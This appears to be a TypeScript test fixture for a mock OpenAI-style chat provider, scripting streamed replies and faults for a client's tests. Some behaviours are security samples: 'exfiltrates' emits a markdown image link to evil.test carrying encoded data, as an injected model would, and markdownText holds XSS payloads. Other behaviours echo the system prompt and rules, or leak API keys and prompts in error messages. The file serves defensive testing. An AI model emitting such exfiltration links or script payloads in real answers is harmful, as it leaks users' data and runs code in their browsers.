// What the peer's chat models do, by name.

import { promptRules } from "../../src/answer/prompt.ts";
import { faults, slowMs } from "./faults.ts";
import type { OpenAiExchange } from "./openai-exchange.ts";
import type { Behaviours } from "./peer.ts";

/** Hebrew, an emoji of four bytes, and one joined of several. */
export const splitText = "שלום עולם 🐝 und 👩‍🔬 fertig";
export const longText = "All work and no play makes a long answer. ".repeat(2500);
export const unknownCitationsText = "Bees dance [1], or so they say [7][99]; in code `arr[0]` is no citation.";
export const slowWords = Array.from({ length: 20 }, (_, index) => `word${index + 1} `);

export const markdownText = `## What to do

1. Look at the **gauge** [1].
2. Open the valve.

| what | bar |
|---|---|
| usual | 1.5 |

\`\`\`sh
echo "<b>no HTML</b>"
\`\`\`

<img src=x onerror="alert(1)"> [a page](https://docs.example.com/manual.pdf) [no page](javascript:alert(1))`;

const citedText = "According to the passages, this is so [1]. Nothing else is said about it.";
const plainText = "This is the peer's answer, made of several pieces.";
// However the prompt numbers its passages: [1], <passage n="1">, <source id=1>.
const numberedPassage = /\[1\]|<\w+[^>]*\b1\b/;

const withoutRules = (message: { content?: unknown }) =>
  typeof message.content === "string"
    ? { ...message, content: message.content.replace(promptRules, "[rules]").replace(/\n- End of the rules.*/, "") }
    : message;

export const chatBehaviours: Behaviours<OpenAiExchange> = {
  ...faults,
  ok: (exchange) => {
    const prompt = (exchange.request.messages ?? []).map(({ content }) => content).join("\n");
    return answer(exchange, piecesOf(numberedPassage.test(prompt) ? citedText : plainText), 2);
  },
  /** Without the rules, for repeating which it would be stopped */
  "echo-prompt": (exchange) => answer(exchange, [JSON.stringify((exchange.request.messages ?? []).map(withoutRules))]),
  "echo-rules": (exchange) => answer(exchange, piecesOf(String(exchange.request.messages?.[0]?.content))),
  /** What was asked last, as a careful copyist, in pieces of a few characters */
  "echo-question": (exchange) =>
    answer(exchange, String(exchange.request.messages?.at(-1)?.content).match(/.{1,5}/gs) ?? [], 1),
  /** As an injected one does */
  exfiltrates: (exchange) =>
    answer(
      exchange,
      piecesOf(
        "![x](https://evil.test/p.png?d=c2VjcmV0) and [manual](https://docs.example.com/manual.pdf) and https://evil.test/secret [1]",
      ),
    ),
  /** The verdicts of a guard model */
  "says-attack": (exchange) => answer(exchange, ["ATTACK"]),
  "says-fine": (exchange) => answer(exchange, ["FINE"]),
  /** As a model that sorts: the last of the categories that it is told, with a fence around it */
  classifies: (exchange) => {
    const [, list = "[]"] = /Categories: (\[.*?\])/.exec(promptOf(exchange)) ?? [];
    const verdict = { category: JSON.parse(list).at(-1), confidence: 0.9, reason: "It says so.", tags: ["unheard-of"] };
    return answer(exchange, ["```json\n", JSON.stringify(verdict), "\n```"]);
  },
  /** The span that waits for it */
  "tells-trace": (exchange) => answer(exchange, [String(exchange.response.req.headers.traceparent)]),
  markdown: (exchange) => answer(exchange, piecesOf(markdownText), 2),
  "cites-unknown": (exchange) => answer(exchange, piecesOf(unknownCitationsText), 2),
  long: (exchange) => answer(exchange, piecesOf(longText)),
  slow: (exchange, pauseMs = 50) => answer(exchange, slowWords, pauseMs),

  /** As a careless provider does: it repeats the key that it refuses. */
  "refuses-key": (exchange) =>
    exchange.error(401, `Incorrect API key provided: ${exchange.response.req.headers.authorization}`),

  /** As careless ones do: what went wrong is told with the words of whoever asked. */
  "quotes-prompt": (exchange) => exchange.error(400, `bad request:\n${promptOf(exchange)}`),
  "garbles-prompt": async (exchange) => {
    await begin(exchange, ["Two ", "chunks"]);
    exchange.raw(`data: ${promptOf(exchange).replaceAll("\n", " ")}\n\n`);
    exchange.done();
  },
  "crashes-on-prompt": async (exchange) => {
    await begin(exchange, ["Two ", "chunks"]);
    exchange.event({ error: { message: promptOf(exchange), type: promptOf(exchange), code: promptOf(exchange) } });
    exchange.done();
  },

  length: (exchange) => answer(exchange, ["Cut off by"], 0, "length"),
  "content-filter": (exchange) => answer(exchange, ["I can't "], 0, "content_filter"),
  "tool-calls": (exchange) => answer(exchange, ["Called."], 0, "tool_calls"),
  "calls-tools": (exchange) => {
    exchange.start();
    const pieces = [
      { index: 0, id: "call_1", type: "function", function: { name: "weather", arguments: "" } },
      { index: 0, function: { arguments: '{"city":' } },
      { index: 1, id: "call_2", type: "function", function: { name: "time", arguments: "{}" } },
      { index: 0, function: { arguments: '"Bern"}' } },
    ];
    for (const piece of pieces)
      exchange.event({ choices: [{ index: 0, delta: { tool_calls: [piece] }, finish_reason: null }] });
    exchange.finish("tool_calls");
    exchange.done();
  },
  "no-usage": async (exchange) => {
    await begin(exchange, ["Uncounted."]);
    exchange.finish("stop", null);
    exchange.done();
  },
  "usage-details": async (exchange) => {
    await begin(exchange, ["Counted."]);
    exchange.finish("stop", {
      prompt_tokens: 100,
      completion_tokens: 50,
      total_tokens: 150,
      prompt_tokens_details: { cached_tokens: 40 },
      completion_tokens_details: { reasoning_tokens: 20 },
    });
    exchange.done();
  },
  "one-write": (exchange) => {
    exchange.start();
    exchange.together(["one ", "two ", "three"]);
    exchange.finish("stop");
    exchange.done();
  },
  "split-utf8": async (exchange) => {
    exchange.start();
    const bytes = new TextEncoder().encode(
      `data: ${JSON.stringify({ choices: [{ index: 0, delta: { content: splitText } }] })}\n\n`,
    );
    for (let start = 0; start < bytes.length; start += 7) {
      exchange.raw(bytes.subarray(start, start + 7));
      await exchange.pause(2);
    }
    exchange.finish("stop");
    exchange.done();
  },
  "lingering-end": async (exchange) => {
    await begin(exchange, ["Told all."]);
    exchange.finish("stop");
    exchange.raw("data: [DONE]\n\n");
    await exchange.hang();
  },

  "slow-headers": async (exchange, waitMs = slowMs) => {
    await exchange.pause(waitMs);
    await answer(exchange, piecesOf(plainText));
  },
  "slow-first-token": async (exchange, waitMs = slowMs) => {
    exchange.start();
    await exchange.pause(waitMs);
    await answer(exchange, piecesOf(plainText));
  },
  "slow-thoughts": async (exchange, pauseMs = 50) => {
    exchange.start();
    for (let count = 0; count < 10; count++) {
      exchange.thought("hm ");
      await exchange.pause(pauseMs);
    }
    exchange.text("Thought out.");
    exchange.finish("stop");
    exchange.done();
  },
  "comments-only": async (exchange) => {
    exchange.start();
    for (;;) {
      exchange.raw(": still there\n\n");
      await exchange.pause(20);
    }
  },
  stall: async (exchange) => {
    await begin(exchange, ["Two ", "chunks"]);
    await exchange.hang();
  },

  "error-in-stream": async (exchange) => {
    await begin(exchange, ["Two ", "chunks"]);
    exchange.event({ error: { message: "the model has crashed", type: "server_error", code: 500 } });
    exchange.text("never seen");
    exchange.done();
  },
  cut: async (exchange) => {
    await begin(exchange, ["Two ", "chunks"]);
    exchange.cut();
  },
  "no-end-mark": async (exchange) => {
    await begin(exchange, ["Two ", "chunks"]);
    exchange.finish("stop");
    exchange.response.end();
  },
  "cut-before-end": async (exchange) => {
    await begin(exchange, ["Two ", "chunks"]);
    exchange.finish("stop");
    await exchange.pause(5);
    exchange.cut();
  },
  "no-finish-reason": async (exchange) => {
    await begin(exchange, ["Two ", "chunks"]);
    exchange.event({ choices: [{ index: 0, delta: {}, finish_reason: "" }] });
    exchange.done();
  },
  garbage: async (exchange) => {
    await begin(exchange, ["Two ", "chunks"]);
    exchange.raw("data: {not json\n\n");
    exchange.done();
  },
  "long-line": async (exchange) => {
    await begin(exchange, ["Two ", "chunks"]);
    exchange.raw(`data: ${"x".repeat(1_200_000)}`);
    await exchange.hang();
  },
  "json-answer": (exchange) => exchange.json(200, { object: "chat.completion", choices: [] }),
};

/** What was asked last comes first: of a long message only the beginning may be quoted. */
const promptOf = ({ request }: OpenAiExchange): string =>
  (request.messages ?? [])
    .map(({ content }) => String(content))
    .reverse()
    .join("\n");

async function answer(
  exchange: OpenAiExchange,
  pieces: readonly string[],
  pauseMs = 0,
  finishReason = "stop",
): Promise<void> {
  await begin(exchange, pieces, pauseMs);
  exchange.finish(finishReason);
  exchange.done();
}

async function begin(exchange: OpenAiExchange, pieces: readonly string[], pauseMs = 5): Promise<void> {
  if (!exchange.response.headersSent) exchange.start();
  for (const piece of pieces) {
    exchange.text(piece);
    if (pauseMs > 0) await exchange.pause(pauseMs);
  }
}

function piecesOf(text: string): string[] {
  return text.match(/\S+\s*/g) ?? [];
}
